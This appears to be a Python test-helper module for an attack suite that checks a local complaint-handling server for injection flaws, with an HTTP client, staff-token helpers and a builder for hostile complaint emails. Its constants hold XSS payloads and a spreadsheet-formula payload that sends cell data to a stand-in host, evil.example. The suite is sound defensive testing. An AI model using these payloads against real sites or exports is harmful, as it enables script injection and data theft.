"""What the attack suite's tests share: a client of the local HTTP server (what API Gateway and a
browser do), staff tokens and console sessions, and a case driven through its links."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from dataclasses import dataclass, field
from email.message import EmailMessage
from typing import Any
from urllib.parse import urlencode

from infra.local import tokens
from infra.local.http import recipients_of
from infra.local.runtime import LocalRuntime

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
CR, CS_SH001, GM_SH001 = "cr.center@aurora-motors.example", "cs.sh001@dealers.example", "gm.sh001@dealers.example"
CS_BJ002, CR_B = "cs.bj002@dealers.example", "cr.center@borealis-motors.example"
CUSTOMER = "xss.customer@mail.example"
# What an attacker writes into every field a customer controls: markup that runs if a page
# does not escape it, and a formula that runs if a spreadsheet does not quote it.
SCRIPT = "<script>alert(1)</script>"
ATTR = '"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    """A redirect is an answer to check (where to?), not one to follow."""

    def redirect_request(self, *args: Any, **kwargs: Any) -> None:
        return None


_OPENER = urllib.request.build_opener(_NoRedirect)


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: str

    def json(self) -> Any:
        return json.loads(self.body)


@dataclass
class Api:
    """The local HTTP server, as a client (and, with ``jar``, a browser) calls it."""

    base: str
    secret: str
    jar: dict[str, str] = field(default_factory=dict)

    def call(self, method: str, path: str, body: bytes | None = None,
             headers: dict[str, str] | None = None) -> tuple[int, str]:
        answer = self.request(method, path, body, headers)
        return answer.status, answer.body

    def request(self, method: str, path: str, body: bytes | None = None,
                headers: dict[str, str] | None = None) -> Answer:
        sent = dict(headers or {})
        if self.jar:
            sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.jar.items())
        req = urllib.request.Request(self.base + path, data=body, method=method, headers=sent)
        try:
            with _OPENER.open(req, timeout=60) as resp:
                return Answer(resp.status, {k.lower(): v for k, v in resp.headers.items()},
                              resp.read().decode("utf-8", "replace"))
        except urllib.error.HTTPError as exc:
            return Answer(exc.code, {k.lower(): v for k, v in exc.headers.items()}, exc.read().decode("utf-8", "replace"))

    def post_form(self, path: str, fields: dict[str, str], origin: str | None = "") -> Answer:
        headers = {**FORM, **({"Origin": origin or self.base} if origin is not None else {})}
        return self.request("POST", path, urlencode(fields).encode(), headers)

    def bearer(self, email: str, brand: str = "aurora") -> dict[str, str]:
        return {"Authorization": f"Bearer {tokens.issue(email, brand, self.secret)}"}

    def signed_in(self, email: str, brand: str = "aurora") -> Api:
        """A browser with a console session of ``email``."""
        return Api(self.base, self.secret, {"console_session": tokens.issue(email, brand, self.secret)})


def staff_token(api: Api, email: str = CR) -> dict[str, str]:
    """A bearer token from the local token server, as the CLI gets one."""
    status, text = api.call("POST", "/_local/token", json.dumps({"email": email}).encode(), JSON)
    assert status == 200, text
    return {"Authorization": f"Bearer {json.loads(text)['token']}"}


def hostile_mail(subject: str = SCRIPT + ATTR + FORMULA, name: str = SCRIPT,
                 to: str = "sh001@complaints.aurora-motors.example") -> bytes:
    """A complaint with markup in the sender's name, the subject and the text, and contact data
    (phone, VIN, plate) in the text."""
    mail = EmailMessage()
    mail["From"] = f'"{name}" <{CUSTOMER}>'
    mail["To"] = to
    mail["Subject"] = subject
    mail["Message-ID"] = "<hostile-1@mail.example>"
    mail.set_content(f"刹车失灵，非常危险！{SCRIPT} {ATTR}\n电话 13912345678，车架号 LAUR0A1B2C3000009，车牌 沪B54321。\n")
    return bytes(mail)


def deliver(runtime: LocalRuntime, raw: bytes) -> str:
    result = runtime.deliver(raw, recipients_of(raw))
    assert result["disposition"] == "new_case", result
    runtime.clock.settle(30)
    return str(result["case_no"])


def link_path(runtime: LocalRuntime, case_no: str, step: str) -> str:
    """The newest link of ``step`` the case's mails carry, as a path."""
    urls = [link["url"] for m in runtime.outbox.for_case(case_no) for link in m.mail.links if link["step"] == step]
    assert urls, f"a mail with a {step} link went out"
    return "/" + urls[-1].split("/", 3)[3]


def act(api: Api, runtime: LocalRuntime, case_no: str, step: str, fields: dict[str, Any]) -> Answer:
    """What a person does with a step's link: open the page, post its form with the page's token."""
    path = link_path(runtime, case_no, step)
    page = api.request("GET", path, headers={"Accept": "application/json"})
    assert page.status == 200, (step, page.body[:300])
    answer = api.request("POST", path, json.dumps({**fields, "form_token": page.json()["form_token"]}).encode(), JSON)
    runtime.clock.settle(30)
    return answer


FIRST_CONTACT = {"notes": "Called the customer and apologised."}
INVESTIGATION = {"findings": "Inspected the car with the customer.", "root_cause": "product",
                 "responsibility": "none", "preliminary_feedback": "We found the cause."}


def to_plan(api: Api, runtime: LocalRuntime, case_no: str) -> None:
    for step, fields in (("first_contact", FIRST_CONTACT), ("investigation", INVESTIGATION)):
        assert act(api, runtime, case_no, step, fields).status == 200, step
